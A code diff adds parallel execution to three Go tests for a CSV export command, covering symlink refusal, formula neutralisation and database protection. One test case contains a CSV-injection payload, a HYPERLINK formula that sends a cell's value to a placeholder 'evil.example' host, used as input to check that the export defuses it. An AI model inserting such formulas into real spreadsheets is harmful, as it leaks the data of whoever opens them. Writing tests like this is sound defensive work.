@@ -33,6 +33,7 @@ func exportRun(t *testing.T, suffix string) (vars map[string]string, agents []fl
 // one of them, nor a device, directory or pipe; it writes through a
 // temporary file in the same directory and renames it, owner-only.
 func TestExportRefusesWhatIsNotItsFile(t *testing.T) {
+	t.Parallel()
 	vars, agents, db := exportRun(t, "910001")
 	dir := t.TempDir()
 	link := filepath.Join(dir, "link.csv")
@@ -129,6 +130,7 @@ func mustGetwd(t *testing.T) string {
 // quote, as OWASP's CSV-injection guidance says; every other cell, numbers
 // included, as it is.
 func TestExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	vars, agents, db := exportRun(t, "920001")
 	for _, tc := range []struct{ status, reason string }{
 		{`=HYPERLINK("http://evil.example/?x="&A2,"click")`, "@SUM(1+1)"},
@@ -165,6 +167,7 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 // and the fake's --env-file (which knows no run) over any run's, are
 // refused, and the database is untouched.
 func TestOutputNeverOverwritesARunDatabase(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	other := filepath.Join(dir, "other.fleet.db")
 	d, err := fleet.Open(context.Background(), other)
